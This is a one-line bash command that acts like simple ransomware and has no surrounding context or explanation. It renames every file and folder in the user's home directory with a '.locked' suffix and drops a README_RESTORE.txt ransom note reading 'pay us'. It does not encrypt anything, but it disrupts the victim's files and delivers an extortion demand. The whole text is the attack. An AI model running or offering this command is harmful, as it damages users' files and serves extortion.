for f in "$HOME"/*; do mv "$f" "$f.locked"; done; echo "pay us" > ~/README_RESTORE.txt
